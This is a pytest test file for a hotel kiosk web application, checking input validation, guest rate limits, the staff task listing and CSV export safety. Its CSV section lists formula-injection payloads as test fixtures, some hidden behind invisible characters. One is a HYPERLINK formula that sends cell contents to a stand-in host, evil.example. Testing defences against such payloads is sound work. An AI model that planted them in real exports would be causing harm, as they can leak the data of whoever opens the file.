"""Findings of the last input probe, each through the public interface (docs/security.md):

* text is normalised at the edge: a NUL or a lone surrogate (a JSON ``\\ud800`` escape) in
  any JSON body is 400 ``VALIDATION_ERROR`` naming the field, never a 500, and writes
  nothing; the library's ``parse`` refuses them too;
* a guest session's requests, questions and offer taps are rate limited
  (``guest.max_*_per_minute``): 429 ``RATE_LIMITED`` with ``retryAfter`` and ``Retry-After``;
* the staff listing filters and chooses in SQL before its limit: a flood of one guest's
  junk does not hide another guest's fault, filtered by room or not;
* CSV cells are neutralised after skipping leading whitespace, control and invisible
  characters (a NUL, a zero-width space, a BOM); LibreOffice, when installed, confirms no
  cell of the export becomes a formula;
* docs/openapi.yaml says what the server accepts (``language`` not null, the voice's
  ``audio`` a base64 WAV, 64-bit ``expectedVersion``).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import jsonschema_rs
import loaded
import pytest
import yaml

from kiosk import audit, export, store, tickets
from kiosk import config as config_mod
from kiosk import queue as work_queue
from kiosk.errors import ValidationError
from kiosk.guest import GuestRequest
from kiosk.instance import Instance
from kiosk.validation import INT64_MAX, parse
from kiosk.web import create_app

ROOT = Path(__file__).resolve().parents[1]
NODE = "kiosk-test"


def count(instance, table: str, where: str = "1=1") -> int:
    return instance.db().execute(f"SELECT count(*) FROM {table} WHERE {where}").fetchone()[0]


def written(instance) -> tuple:
    """Everything a request could have written."""
    return tuple(count(instance, t) for t in ("audit_log", "outbox", "tickets", "tasks", "sessions",
                                               "consumed_tokens", "offer_acceptances", "work_orders"))


@pytest.fixture
def hotel(instance):
    db = instance.db()
    db["rooms"].insert_all([{"hotel_id": "demo", "room_number": n, "room_type": "KING", "floor": int(n[0]),
                             "status": "Inspected", "occupied": 1} for n in ("412", "105")])
    db["reservations"].insert_all([
        {"hotel_id": "demo", "confirmation": "R-1", "guest_name": "Ada Lovelace", "room_number": "412",
         "room_type": "KING", "arrival": "2026-05-27", "departure": "2026-05-30", "status": "InHouse"},
        {"hotel_id": "demo", "confirmation": "R-2", "guest_name": "Karl Benz", "room_number": "105",
         "room_type": "KING", "arrival": "2026-05-27", "departure": "2026-05-30", "status": "InHouse"}])
    db["staff"].insert({"hotel_id": "demo", "staff_id": "s-ana", "name": "Ana Weber", "role": "maintenance",
                        "skills": "plumbing", "shift_start": "00:00", "shift_end": "23:59"})
    db["offers"].insert_all([
        {"hotel_id": "demo", "offer_id": f"O{i}", "name": f"Offer {i}", "type": "addon", "price": 10.0 + i,
         "margin": 50.0 - i, "inventory": 10} for i in range(5)])
    db["faq"].insert({"hotel_id": "demo", "faq_id": "breakfast", "language": "en",
                      "question": "When is breakfast served?", "answer": "From 6:30 to 10:30."})
    return db


# --- 1. text normalised at the edge -------------------------------------------------------------

def raw(client, path: str, body: str, headers=None):
    """POST a JSON text as it is (``\\ud800`` stays an escape: json.dumps would not write one)."""
    return client.post(path, data=body.encode(), content_type="application/json", headers=headers or {})


BAD = [  # (who, path, body with a JSON escape the parser turns into NUL or a lone surrogate, the field)
    (None, "/api/qr/scan", '{"qrToken": "abc\\ud800", "hotelId": "demo"}', "qrToken"),
    (None, "/api/qr/scan", '{"qrToken": "\\udfff", "hotelId": "demo\\u0000"}', "qrToken"),
    ("staff", "/api/approvals", '{"taskId": "\\ud800", "decision": "approve"}', "taskId"),
    ("guest", "/api/guest/requests", '{"text": "two towels\\u0000=1+1"}', "text"),
    ("guest", "/api/guest/requests", '{"text": "two towels", "\\ud83d": 1}', "\\ud83d"),
    ("guest", "/api/guest/questions", '{"question": "breakfast \\ud800?"}', "question"),
    ("guest", "/api/guest/offers/O1/accept", '{"note": "\\u0000"}', "note"),
    ("staff", "/api/tickets/auto", '{"type": "maintenance", "title": "leak", "roomNumber": "412\\u0000"}',
     "roomNumber"),
    ("staff", "/api/pms/update", '{"workOrderId": "WO-1", "changes": {"notes": ["ok", "\\udc00"]}}',
     "changes.notes.1"),
    ("staff", "/api/staff/tasks/ticket/T-1", '{"action": "accept", "assignee": "s-ana\\ud800"}', "assignee"),
    ("admin", "/api/admin?endpoint=tokens", '{"role": "guest", "hotelId": "demo", "userId": "\\ud800"}', "userId"),
]


@pytest.mark.parametrize("who, path, body, field", BAD, ids=[f"{b[1]}:{b[3]}" for b in BAD])
def test_nul_and_lone_surrogates_are_refused_naming_the_field_and_write_nothing(
        client, login, instance, hotel, caplog, who, path, body, field):
    headers = login(who, user={"guest": "R-1", "staff": "s-ana"}.get(who)) if who else {}
    before = written(instance)
    r = raw(client, path, body, headers)
    assert r.status_code == 400, r.get_data(as_text=True)[:300]
    err = r.get_json()["error"]
    assert err["code"] == "VALIDATION_ERROR"
    assert err["details"]["fields"][0]["field"] == field
    assert field in err["message"]
    assert written(instance) == before  # nothing at all: no ticket, no audit row, no session
    assert not [rec for rec in caplog.records if rec.levelname == "ERROR"]  # no traceback logged


def test_a_flood_of_lone_surrogate_scans_is_cheap_400s_not_500s(client, instance, caplog):
    before = written(instance)
    codes = {raw(client, "/api/qr/scan", '{"qrToken": "\\ud800", "hotelId": "demo"}').status_code
             for _ in range(200)}
    assert codes == {400}
    assert written(instance) == before
    assert not [rec for rec in caplog.records if rec.levelname == "ERROR"]


def test_real_text_passes_an_emoji_pair_is_one_character(client, login, instance, hotel):
    r = raw(client, "/api/guest/requests", '{"text": "Zwei Handt\\u00fccher bitte \\ud83d\\ude4f"}',
            login("guest", user="R-1"))
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["ticket"]["title"] == "Zwei Handtücher bitte \U0001F64F"


def test_the_library_refuses_them_too(instance, clock):
    for bad in ("two towels\x00", "two \ud800 towels"):
        with pytest.raises(ValidationError) as e:
            parse(GuestRequest, {"text": bad})
        assert e.value.details["fields"][0]["field"] == "text"
        with pytest.raises(ValidationError):
            tickets.create(instance.db(), {"type": "maintenance", "title": bad, "roomNumber": "412"},
                           hotel_id="demo", by="s-ana", now=clock.now(), node=NODE, window=3600)
    assert count(instance, "tickets") == 0 and count(instance, "outbox") == 0


# --- 2. rate limits per guest session --------------------------------------------------------

LIMIT = 3


@pytest.fixture
def limited(tmp_path, clock):
    """An app whose guest limits are LIMIT a minute (the defaults are in config.yaml)."""
    cfg = config_mod.load(None, env={}, overrides={
        "data_dir": str(tmp_path / "limited"),
        "property": {"hotels": ["demo"], "issuer": "demo", "kiosk_id": NODE},
        "guest": {"max_requests_per_minute": LIMIT, "max_questions_per_minute": LIMIT,
                  "max_offers_per_minute": LIMIT},
        **loaded.overrides()})
    inst = Instance(cfg, clock=clock)
    inst.init()
    app = create_app(instance=inst)
    app.config["TESTING"] = True
    return inst, app.test_client()


def guest_login(inst, client, clock, user):
    from kiosk import tokens

    tok, _ = tokens.issue(inst.db(), inst.load_keys(), hotel_id="demo", role="guest", now=clock.now(),
                          ttl_seconds=3600, user_id=user, issuer="demo", node=NODE)
    r = client.post("/api/qr/scan", json={"qrToken": tok, "hotelId": "demo"})
    assert r.status_code == 200, r.get_json()
    return {"Authorization": "Bearer " + r.get_json()["sessionJWT"]}


def seed(inst):
    db = inst.db()
    db["reservations"].insert_all([
        {"hotel_id": "demo", "confirmation": c, "guest_name": c, "room_number": room, "room_type": "KING",
         "arrival": "2026-05-27", "departure": "2026-05-30", "status": "InHouse"}
        for c, room in (("R-1", "412"), ("R-2", "105"))])
    db["offers"].insert_all([
        {"hotel_id": "demo", "offer_id": f"O{i}", "name": f"Offer {i}", "type": "addon", "price": 10.0 + i,
         "margin": 50.0 - i, "inventory": 10} for i in range(LIMIT + 3)])


WORDS = ["towels", "pillow", "water", "blanket", "soap", "hanger", "kettle", "slippers"]
SENDS = {
    "requests": lambda i: ("/api/guest/requests", {"text": f"Two extra {WORDS[i]} please"}),
    "questions": lambda i: ("/api/guest/questions", {"question": f"Can I borrow a {WORDS[i]}?"}),
    "offers": lambda i: (f"/api/guest/offers/O{i}/accept", None),
}


@pytest.mark.parametrize("what", sorted(SENDS))
def test_a_guest_session_is_rate_limited_per_minute(limited, clock, what):
    inst, client = limited
    seed(inst)
    ada, karl = guest_login(inst, client, clock, "R-1"), guest_login(inst, client, clock, "R-2")
    send = SENDS[what]
    for i in range(LIMIT):
        path, body = send(i)
        assert client.post(path, json=body, headers=ada).status_code in (200, 201)
        clock.advance(1)
    before = (count(inst, "tickets"), count(inst, "offer_acceptances"), count(inst, "outbox"))
    for i in range(LIMIT, LIMIT + 3):  # refused: nothing done, and the refusals do not count
        path, body = send(i)
        r = client.post(path, json=body, headers=ada)
        assert r.status_code == 429, r.get_json()
        err = r.get_json()["error"]
        assert err["code"] == "RATE_LIMITED" and err["details"]["scope"] == what
        assert err["details"]["retryAfter"] == 60 - LIMIT == int(r.headers["Retry-After"])
    assert (count(inst, "tickets"), count(inst, "offer_acceptances"), count(inst, "outbox")) == before
    # one audit row for the run of refusals, not one per refusal
    assert count(inst, "audit_log", "event = 'security.rate_limited'") == 1
    path, body = send(LIMIT)
    assert client.post(path, json=body, headers=karl).status_code in (200, 201)  # another guest: not limited
    clock.advance(60 - LIMIT)  # after retryAfter the first attempt has left the window: one more
    assert client.post(path, json=body, headers=ada).status_code in (200, 201)
    path, body = send(LIMIT + 1)
    assert client.post(path, json=body, headers=ada).status_code == 429


def test_a_flood_of_requests_creates_at_most_the_limit(limited, clock):
    inst, client = limited
    seed(inst)
    ada = guest_login(inst, client, clock, "R-1")
    codes = [client.post("/api/guest/requests", json={"text": f"junk {i} {'x' * (i % 7)} q{i * 31}"},
                         headers=ada).status_code for i in range(200)]
    assert codes.count(429) == 200 - LIMIT and count(inst, "tickets") == LIMIT


def test_the_guest_limits_are_configured_and_documented():
    d = config_mod.defaults()["guest"]
    assert d == {"max_requests_per_minute": 10, "max_questions_per_minute": 10, "max_offers_per_minute": 10}
    doc = yaml.safe_load((ROOT / "config.yaml").read_text())["guest"]
    assert doc == d
    errors_md = (ROOT / "docs/errors.md").read_text()
    assert "guest.max_requests_per_minute" in errors_md


def test_the_guest_screen_says_one_moment_on_429():
    js = (ROOT / "kiosk/web/static/guest.js").read_text()
    strings = json.loads((ROOT / "kiosk/web/static/i18n.json").read_text())
    assert 'r.code !== "RATE_LIMITED"' in js and '"guest.wait.seconds"' in js
    for lang in ("en", "de"):
        assert "{seconds}" in strings[lang]["guest.wait.seconds"] and strings[lang]["guest.wait"]
    for send in ('"/api/guest/requests"', '"/api/guest/questions"', "`/api/guest/offers/"):  # each says it
        call = js.index(f'Kiosk.api("POST", {send}')
        assert "this.sayRefused(r)" in js[call:call + 400], send


# --- 3. the staff listing chooses in SQL before its limit ---------------------------------------

class Viewer:
    user_id = "s-ana"
    display_name = "Ana Weber"


def junk(instance, clock, n: int, room="412", by="R-1"):
    db = instance.db()
    for i in range(n):
        tickets.create(db, {"type": "guest_request", "title": f"zq{i} xv{i * 7} kw{i * 13}", "roomNumber": room},
                       hotel_id="demo", by=by, now=clock.now(), node=NODE, window=3600)
        clock.advance(0.5)


def fault(client, login, clock) -> str:
    r = client.post("/api/guest/requests", json={"text": "The shower is broken and flooding"},
                    headers=login("guest", user="R-2"))
    assert r.status_code == 201, r.get_json()
    clock.advance(0.5)
    return r.get_json()["ticket"]["ticketId"]


@pytest.mark.parametrize("order", ["fault, then 520 junk", "520 junk, then the fault"])
def test_another_guests_fault_stays_in_the_listing_after_a_flood(client, login, instance, clock, hotel, order):
    if order.startswith("fault"):
        tid = fault(client, login, clock)
        junk(instance, clock, 520)
    else:
        junk(instance, clock, 520)
        tid = fault(client, login, clock)
    staff = login("staff", user="s-ana")
    ids = [it["id"] for it in client.get("/api/staff/tasks", headers=staff).get_json()["items"]]
    assert tid in ids
    by_room = client.get("/api/staff/tasks?room=105", headers=staff).get_json()
    assert [it["id"] for it in by_room["items"]] == [tid]
    assert by_room["counts"]["all"] == 1
    for q in ("kind=ticket", "scope=department"):  # the fault went to maintenance: Ana's department
        assert tid in [it["id"] for it in client.get(f"/api/staff/tasks?{q}", headers=staff).get_json()["items"]]
    counts = client.get("/api/staff/tasks", headers=staff).get_json()["counts"]
    assert counts["all"] == 521  # counted in SQL, not the rows read


def reference(items: list[dict], viewer: dict, scope: str, room, kind) -> tuple[list[str], dict]:
    """The listing as it was computed in Python (every open item read, then filtered and sorted)."""
    items = [it for it in items if (not room or it["room"] == room) and (not kind or it["kind"] == kind)]
    in_scope = {"all": lambda it: True, "mine": lambda it: it["assignee"] == viewer["id"],
                "department": lambda it: viewer["department"] is None or it["department"] == viewer["department"]}
    counts = {s: sum(1 for it in items if f(it)) for s, f in in_scope.items()}
    return [it["id"] for it in sorted((it for it in items if in_scope[scope](it)), key=work_queue.sort_key)], counts


def test_the_sql_filters_and_order_are_the_python_ones(instance, clock, hotel):
    """Departments, priorities and times as SQL must agree with the item builders."""
    db = instance.db()
    prios = ["urgent", "high", "normal", "low"]
    for i in range(24):
        tickets.create(db, {"type": ["guest_request", "housekeeping", "maintenance"][i % 3],
                            "title": f"item{i} w{i * 17} v{i * 5}", "roomNumber": ["412", "105", None][i % 3],
                            "priority": prios[i % 4]}, hotel_id="demo", by=["R-1", "R-2", "s-ana"][i % 3],
                       now=clock.now(), node=NODE, window=3600)
        clock.advance(7)
    skills = ["plumbing", "cleaning", None, "front_office", "hvac", "weird"]
    db["tasks"].insert_all([
        {"hotel_id": "demo", "task_id": f"K{i}", "type": "approval" if i % 5 == 0 else "delivery",
         "room_number": ["412", "105"][i % 2], "priority": (prios + [None])[i % 5] or "normal",
         "required_skill": skills[i % 6], "created_at": f"2026-05-2{i % 9}T1{i % 10}:00:00+00:00",
         "status": ["open", "assigned", "done"][i % 3], "assignee": "s-ana" if i % 4 == 0 else None,
         "description": json.dumps({"reason": "x", "changes": {}}) if i % 5 == 0 else "do it", "source": "pms"}
        for i in range(18)])
    db["work_orders"].insert_all([
        {"hotel_id": "demo", "work_order_id": f"W{i}", "room_number": "105", "type": "repair",
         "description": "fix", "status": ["open", "in_progress"][i % 2], "priority": prios[i % 4],
         "opened_at": clock.now() - i * 100, "updated_at": clock.now(), "version": 1,
         "assignee": "s-ana" if i % 2 else None} for i in range(6)])
    viewer = work_queue.me(db, "demo", Viewer)
    everything = work_queue.all_items(db, "demo")
    for scope in work_queue.SCOPES:
        for room in (None, "412", "105"):
            for kind in (None, *work_queue.KINDS):
                got = work_queue.listing(db, "demo", Viewer, now=clock.now(), scope=scope, room=room, kind=kind)
                want_ids, want_counts = reference(everything, viewer, scope, room, kind)
                assert [it["id"] for it in got["items"]] == want_ids, (scope, room, kind)
                assert got["counts"] == want_counts, (scope, room, kind)


# --- 4. CSV formula injection through invisible prefixes ----------------------------------------

EVIL = ["\x00=1+1", "\x00=HYPERLINK(\"http://evil.example/\"&A1)", " =1+1", "  +1+1", "\u200b=1+1", "\ufeff=1+1",
        "\u00a0@SUM(1)", "\u2028-1+1", "\u2029=1", "\u3000=1", "\x0b=1", "\x1f=1", "\u202e=1", "\u2060=1",
        "\x00\u200b \t=1", "\n=1+1", "\t", "\r=1", "=1+1", "-2", "@x", "+x"]
SAFE = ["safe = 1", "a=b", "", " ", "\x00", "\u200bhello", " 1+1", "'quoted", "Zimmer 412", "ü=1"]


@pytest.mark.parametrize("value", EVIL, ids=[repr(v) for v in EVIL])
def test_a_formula_behind_invisible_characters_is_neutralised(value):
    assert export.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", SAFE, ids=[repr(v) for v in SAFE])
def test_text_that_is_no_formula_is_left_alone(value):
    assert export.neutralise(value) == value


def exported_csv(client, login, instance, clock, values) -> str:
    db = instance.db()
    for i, evil in enumerate(values):
        audit.record_now(db, hotel_id="demo", event=f"e{i}", outcome="success", at=clock.now(), actor="t")
        with store.transaction(db):  # as an older row or a synced one could hold it
            db.execute("UPDATE audit_log SET actor = ? WHERE id = (SELECT max(id) FROM audit_log)", [evil])
    r = client.post("/api/admin?endpoint=export", headers=login("admin", user="a-1"), json={"kinds": ["audit"]})
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    return r.get_data(as_text=True)


def test_the_export_neutralises_them(client, login, instance, clock):
    text = exported_csv(client, login, instance, clock, EVIL)
    actors = [row["actor"] for row in csv.DictReader(io.StringIO(text, newline="")) if row["event"][:1] == "e"]
    assert actors == ["'" + v for v in EVIL]


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(not SOFFICE, reason="LibreOffice (soffice) is not installed")
@pytest.mark.timeout(300)
def test_libreoffice_runs_no_cell_of_the_export_as_a_formula(client, login, instance, clock, tmp_path):
    """Imported with "evaluate formulas" and "trim spaces" on: a raw control file shows the
    import does run formulas (NUL-prefixed ones too); the export's cells never become one."""
    text = exported_csv(client, login, instance, clock, EVIL)
    (tmp_path / "export.csv").write_text(text, encoding="utf-8", newline="")
    control = io.StringIO(newline="")
    csv.writer(control, lineterminator="\r\n").writerows([["kind", "actor"], ["x", "=1+1"], ["x", "\x00=2+2"]])
    (tmp_path / "control.csv").write_text(control.getvalue(), encoding="utf-8", newline="")
    # CSV filter: comma, double quote, UTF-8, from line 1, -, -, quoted not text, detect numbers, -, -,
    # trim spaces, -, evaluate formulas
    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--infilter=CSV:44,34,76,1,,0,false,true,false,false,true,-1,true", "--convert-to", "fods",
                    "--outdir", str(tmp_path / "out"), str(tmp_path / "export.csv"), str(tmp_path / "control.csv")],
                   check=True, capture_output=True, timeout=240)
    formulas = {name: re.findall(r'table:formula="([^"]*)"', (tmp_path / "out" / f"{name}.fods").read_text())
                for name in ("export", "control")}
    assert formulas["control"] == ["of:=1+1", "of:=2+2"]  # the import evaluates formulas, NUL or not
    assert formulas["export"] == []


# --- 5. docs/openapi.yaml says what the server accepts -----------------------------------------

@pytest.fixture(scope="module")
def spec():
    return yaml.safe_load((ROOT / "docs/openapi.yaml").read_text())


def body_schema(spec, path: str) -> dict:
    s = spec["paths"][path]["post"]["requestBody"]["content"]["application/json"]["schema"]
    if "$ref" in s:
        s = spec["components"]["schemas"][s["$ref"].rsplit("/", 1)[1]]
    return s


def valid(schema: dict, value) -> bool:
    return jsonschema_rs.Draft202012Validator(schema).is_valid(value)


def test_language_null_is_refused_as_the_schema_says(client, login, hotel, spec):
    schema = body_schema(spec, "/api/guest/questions")
    body = {"question": "When is breakfast served?", "language": None}
    assert not valid(schema, body)
    r = client.post("/api/guest/questions", json=body, headers=login("guest", user="R-1"))
    assert r.status_code == 400 and r.get_json()["error"]["details"]["fields"][0]["field"] == "language"


def test_audio_the_schema_accepts_has_the_form_the_server_reads(client, login, hotel, spec):
    import base64

    schema = body_schema(spec, "/api/guest/voice")
    header_only = base64.b64encode(b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(32)).decode()
    assert not valid(schema, {"audio": "00000000"})
    assert not valid(schema, {"audio": base64.b64encode(b"not a wav file at all, not at all" * 3).decode()})
    assert valid(schema, {"audio": header_only})
    ada = login("guest", user="R-1")
    r = client.post("/api/guest/voice", json={"audio": "00000000"}, headers=ada)
    assert r.status_code == 400 and r.get_json()["error"]["details"]["fields"][0]["field"] == "audio"
    from kiosk.guest import MIN_AUDIO_B64, WAV_B64_PATTERN, Voice

    audio = schema["properties"]["audio"]
    assert (audio["pattern"], audio["minLength"]) == (WAV_B64_PATTERN, MIN_AUDIO_B64)
    assert audio["maxLength"] == Voice.model_fields["audio"].metadata[1].max_length


def test_expected_version_is_64_bit_in_the_schema_and_the_server(client, login, instance, clock, hotel, spec):
    action = body_schema(spec, "/api/staff/tasks/{kind}/{item_id}")["properties"]["expectedVersion"]
    pms = spec["components"]["schemas"]["WorkOrderUpdate"]["properties"]["expectedVersion"]
    for s in (action, pms):
        assert s["maximum"] == INT64_MAX
    assert not valid({"type": "object", "properties": {"v": action}}, {"v": 2**64})
    db = instance.db()
    db["work_orders"].insert({"hotel_id": "demo", "work_order_id": "W1", "room_number": "105", "type": "repair",
                              "description": "fix", "status": "open", "priority": "normal",
                              "opened_at": clock.now(), "updated_at": clock.now(), "version": 1})
    staff = login("staff", user="s-ana")
    r = client.post("/api/staff/tasks/work_order/W1", json={"action": "start", "expectedVersion": INT64_MAX},
                    headers=staff)
    assert r.status_code == 409 and r.get_json()["error"]["code"] == "VERSION_CONFLICT"  # schema-valid: not a 400
    r = client.post("/api/staff/tasks/work_order/W1", json={"action": "start", "expectedVersion": INT64_MAX + 1},
                    headers=staff)
    assert r.status_code == 400
